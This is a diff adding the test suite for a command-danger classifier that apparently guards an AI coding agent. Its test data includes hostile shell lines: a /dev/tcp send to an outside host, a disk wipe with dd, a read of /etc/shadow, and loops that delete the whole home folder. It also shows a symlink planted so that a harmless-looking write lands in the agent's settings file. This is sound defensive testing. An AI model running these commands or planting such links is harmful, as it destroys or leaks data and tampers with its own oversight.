@@ -1,0 +1,217 @@
+"""What the classifier's speed-ups must never change: a verdict is a function of the command, its
+directory, its environment and the files on disk at the time of the call, never of an earlier call.
+
+Paths are classified through a cache keyed on the word, the directory, the home and the variables
+that name the dongle's places; links on disk are looked up on every call, part by part, stopping
+at the first part that does not exist.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+
+import pytest
+
+from dongle.assessment import DangerLevel
+from dongle.classify.command import classify_command
+from dongle.paths import classify_path
+from dongle.rules import facts
+
+
+def test_the_same_word_is_placed_against_each_call_s_home_and_directory() -> None:
+    """`~/.bashrc` and `notes.txt` mean different files under different homes and directories."""
+    a = classify_path("~/.bashrc", "/home/dev/project", "/home/dev", {})
+    b = classify_path("~/.bashrc", "/tmp/ci/work", "/tmp/ci", {})
+    assert (a.path, b.path) == ("/home/dev/.bashrc", "/tmp/ci/.bashrc")
+    assert classify_path("notes.txt", "/home/dev/project", "/home/dev", {}).region == "project"
+    assert classify_path("notes.txt", "/home/dev", "/home/dev", {}).region == "home"
+
+
+def test_a_variable_naming_the_dongle_s_place_is_part_of_the_answer() -> None:
+    """The same path is the dongle's own state only when DONGLE_STATE_DIR names its folder."""
+    plain = classify_path("/srv/guard/state.db", "/home/dev/project", "/home/dev", {})
+    named = classify_path("/srv/guard/state.db", "/home/dev/project", "/home/dev",
+                          {"DONGLE_STATE_DIR": "/srv/guard"})
+    assert plain.sensitivity != "dongle_self"
+    assert named.sensitivity == "dongle_self"
+
+
+def test_a_word_with_a_variable_is_expanded_from_the_call_s_environment() -> None:
+    """`$OUT/x` is wherever this call's OUT points, not where an earlier call's did."""
+    home = classify_path("$OUT/x", "/home/dev/project", "/home/dev", {"OUT": "/home/dev"})
+    system = classify_path("$OUT/x", "/home/dev/project", "/home/dev", {"OUT": "/etc"})
+    assert (home.path, system.path) == ("/home/dev/x", "/etc/x")
+
+
+def _settings_home(tmp_path: Path) -> tuple[Path, Path]:
+    home = tmp_path / "home"
+    project = home / "project"
+    project.mkdir(parents=True)
+    (home / ".claude").mkdir()
+    (home / ".claude" / "settings.json").write_text("{}")
+    return home, project
+
+
+@pytest.mark.parametrize("through", ["notes.json", "cfg/settings.json"])
+def test_a_link_planted_between_two_calls_is_seen_by_the_second(tmp_path: Path, through: str) -> None:
+    """The first call writes a plain project file; then a link to the agent's settings (or to its
+    folder) is planted there; the same command in the next call writes the settings."""
+    home, project = _settings_home(tmp_path)
+    env = {"HOME": str(home)}
+    command = f"echo '{{}}' > {through}"
+    if through.startswith("cfg/"):
+        (project / "cfg").mkdir()
+    before = classify_command(command, cwd=str(project), env=env)
+    assert before.danger_level < DangerLevel.DANGEROUS
+    if through.startswith("cfg/"):
+        (project / "cfg").rmdir()
+        (project / "cfg").symlink_to(home / ".claude")
+    else:
+        (project / "notes.json").symlink_to(home / ".claude" / "settings.json")
+    after = classify_command(command, cwd=str(project), env=env)
+    assert after.danger_level >= DangerLevel.DANGEROUS, after.factors
+    assert "fs.write-agent-config" in after.rules
+
+
+def test_a_path_under_a_missing_folder_asks_the_disk_once_per_part_that_exists(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Nothing below a part that does not exist can be a link: no further part is asked for."""
+    asked: list[str] = []
+    real_lstat = os.lstat
+
+    def lstat(path: str) -> os.stat_result:
+        asked.append(path)
+        return real_lstat(path)
+
+    monkeypatch.setattr(facts.os, "lstat", lstat)
+    deep = tmp_path / "missing" / "a" / "b" / "c.txt"
+    info = classify_path(str(deep), str(tmp_path), str(tmp_path), {})
+    assert facts.through_real_link(info, str(tmp_path), str(tmp_path), {}) is info
+    assert asked[-1] == str(tmp_path / "missing")
+    assert len(asked) == len(tmp_path.parts)  # every part that exists, and the first that does not
+
+
+def test_links_on_the_way_are_still_followed(tmp_path: Path) -> None:
+    """A linked folder anywhere on the way (`cfg -> ~/.claude`) resolves to what it points at."""
+    home, project = _settings_home(tmp_path)
+    (project / "cfg").symlink_to(home / ".claude")
+    info = classify_path(str(project / "cfg" / "settings.json"), str(project), str(home), {})
+    resolved = facts.through_real_link(info, str(project), str(home), {})
+    assert resolved.sensitivity == "agent_config"
+    assert resolved.raw == info.raw
+
+
+_WILDCARD_LINES = [
+    "ls -la", "frob /etc/shadow", "frob -o /etc/cron.d/job URL", "echo x > ~/.bashrc", "cp a.txt /etc/hosts",
+    "sudo frob --delete /", "tee -a /var/log/auth.log", "frob -c ':!/bin/sh'", "sed -i s/a/b/ .git/config",
+    "mytool publish --to prod", "dd if=/dev/zero of=/dev/sda", "cat x > /dev/tcp/198.51.100.9/4444",
+]
+
+
+@pytest.mark.parametrize("line", _WILDCARD_LINES)
+def test_the_rules_for_every_program_left_out_are_those_that_cannot_match(line: str) -> None:
+    """A rule for every program is skipped without an unknown program (or without a written path)
+    only when it would fail there: the filtered set matches exactly what the whole set matches."""
+    from dongle.classify.command import _facts
+    from dongle.rules.engine import load_rules, matches
+    from dongle.shell.parse import parse_command
+
+    rules = load_rules()
+    for inv in parse_command(line, cwd="/home/dev/project").invocations:
+        for unknown in (False, True):
+            f = _facts(inv, rules, "/home/dev/project", "/home/dev", {})
+            f.unknown = unknown
+            every = [r.id for r in rules.wildcard if matches(r, f)]
+            kept = [r.id for r in rules.wildcards(unknown, bool(f.write_paths)) if matches(r, f)]
+            assert kept == every
+
+
+def test_the_quicker_init_keeps_what_a_frozen_dataclass_promises() -> None:
+    """Same parameters and defaults, a fresh default dict per instance, `__post_init__` run, still
+    frozen, compared and replaced as before; a class it cannot serve is refused at import."""
+    import dataclasses
+
+    from dongle.assessment import Assessment
+    from dongle.frozen import quick_init
+    from dongle.shell.model import Invocation
+
+    a, b = Invocation(("ls", "-la"), "ls"), Invocation(argv=("ls", "-la"), name="ls")
+    assert a == b and a.env is not b.env and a.wrappers == () and a.cwd is None
+    assert dataclasses.replace(a, name="dir").name == "dir"
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        a.name = "rm"  # type: ignore[misc]
+    assert Assessment(DangerLevel.SAFE, 250).risk_score == 100  # __post_init__ clamps the score
+    assert Assessment.__init__.__qualname__ == "Assessment.__init__"
+
+    @dataclasses.dataclass
+    class Loose:
+        x: int
+
+    with pytest.raises(TypeError):
+        quick_init(Loose)
+
+
+def test_the_shell_parser_is_loaded_by_the_first_command_and_kept() -> None:
+    """A process that only judges hints never loads the shell model; the first command loads it,
+    and every later one reuses it (an import statement per command cost a tenth of a plain one)."""
+    import subprocess
+    import sys
+
+    probe = (
+        "import sys\n"
+        "from dongle.classify.command import _shell_parser, classify_command\n"
+        "from dongle.classify.hint import classify_hint\n"
+        "classify_hint('delete the staging table')\n"
+        "assert 'dongle.shell.parse' not in sys.modules\n"
+        "classify_command('ls -la', cwd='/home/dev/project')\n"
+        "import dongle.shell.parse as p\n"
+        "assert _shell_parser() is p.parse_command and _shell_parser.cache_info().currsize == 1\n"
+    )
+    done = subprocess.run([sys.executable, "-c", probe], capture_output=True, text=True, check=False)
+    assert done.returncode == 0, done.stderr
+
+
+def test_what_a_pipeline_element_changes_ends_with_it() -> None:
+    """Each element of a pipeline runs in a subshell: its `cd` and assignments are undone after it
+    (the scope is now opened and closed by hand, not by a generator-based `with`)."""
+    from dongle.shell.parse import parse_command
+
+    model = parse_command("cd / | cat; X=1 | true; rm -rf build $X", cwd="/home/dev/project")
+    rm = next(inv for inv in model.invocations if inv.name == "rm")
+    assert rm.cwd == "/home/dev/project"
+    assert rm.argv[-1] == "$X"
+
+
+@pytest.mark.parametrize("line", [
+    "for d in $(ls -A ~); do rm -rf ~/\"$d\"; done",  # a loop over a listing
+    "rm -rf $(ls -A ~)",  # a substitution
+    "ls -A ~ | while read x; do rm -rf ~/\"$x\"; done",  # a read loop
+])
+def test_a_listing_reaches_its_consumer_through_a_pipe_or_a_dollar(line: str) -> None:
+    """A command is fed a listing only through a pipe or a `$…` word; every other command skips the
+    search (most of them), and these still delete the home's every entry."""
+    judged = classify_command(line, cwd="/home/dev/project", env={"HOME": "/home/dev"})
+    assert judged.danger_level == DangerLevel.FORBIDDEN
+    assert "fs.rm-home" in judged.rules
+
+
+def test_a_part_without_rules_is_left_as_it_is() -> None:
+    """The context a matched part is judged in (a count of a secret, a development namespace …) is
+    asked only of parts with rules: a plain read stays a plain go, a dev-namespace scale-down still
+    relaxes."""
+    assert classify_command("ls -la", cwd="/home/dev/project").danger_level == DangerLevel.SAFE
+    scaled = classify_command("kubectl scale deploy/api --replicas=0 -n dev-alice", cwd="/home/dev/project")
+    assert scaled.danger_level == DangerLevel.REVERSIBLE
+    assert any("development namespace" in f for f in scaled.factors)
+
+
+def test_a_script_named_from_the_home_is_read_from_this_call_s_home(tmp_path: Path) -> None:
+    """`bash ~/clean.sh` reads the script in the home the call's env names (placed only for `~/`)."""
+    home = tmp_path / "home"
+    home.mkdir()
+    (home / "clean.sh").write_text("#!/bin/sh\nrm -rf \"$HOME\"\n")
+    judged = classify_command("bash ~/clean.sh", cwd=str(home), env={"HOME": str(home)})
+    assert judged.danger_level >= DangerLevel.DESTRUCTIVE, judged.factors
+    elsewhere = classify_command("bash ~/clean.sh", cwd=str(tmp_path), env={"HOME": str(tmp_path)})
+    assert elsewhere.danger_level < judged.danger_level
